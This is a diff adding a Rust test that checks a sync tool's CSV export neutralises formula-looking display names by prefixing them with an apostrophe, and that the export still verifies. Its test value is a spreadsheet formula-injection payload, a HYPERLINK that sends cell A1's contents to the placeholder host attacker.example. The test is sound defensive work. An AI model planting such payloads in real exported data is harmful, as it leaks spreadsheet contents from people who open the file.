@@ -380,3 +380,33 @@ async fn a_users_timeline_tells_the_whole_story_in_order() {
         .await;
     assert_eq!(s, StatusCode::NOT_FOUND);
 }
+
+/// A display name a spreadsheet would run (`=HYPERLINK(…)`) is exported as text, and the
+/// export still verifies.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn formula_looking_names_are_exported_as_text_and_still_verify() {
+    let w = crate::sync::world(json!({"auto_import": true})).await;
+    let evil = "=HYPERLINK(\"http://attacker.example/?q=\"&A1,\"Click\")";
+    w.sim(
+        Method::PATCH,
+        &format!("/_sim/users/{}", crate::sync::ext(3)),
+        Some(json!({"displayName": evil})),
+    )
+    .await;
+    w.sync().await;
+    let dir = tempfile::tempdir().unwrap();
+    let path = export(&w, dir.path(), "users.csv", &["--kind", "users", "--format", "csv"]);
+    let rows = csv_rows(&path);
+    let cell = rows
+        .iter()
+        .flat_map(|r| r.iter())
+        .find(|c| c.contains("HYPERLINK"))
+        .expect("the name is exported");
+    assert_eq!(cell, &format!("'{evil}"));
+    assert!(!rows
+        .iter()
+        .flat_map(|r| r.iter())
+        .any(|c| c.starts_with(['=', '+', '-', '@'])));
+    let (code, v) = cli(&w, &["verify-export", path.to_str().unwrap()]);
+    assert_eq!(code, 0, "{v}");
+}
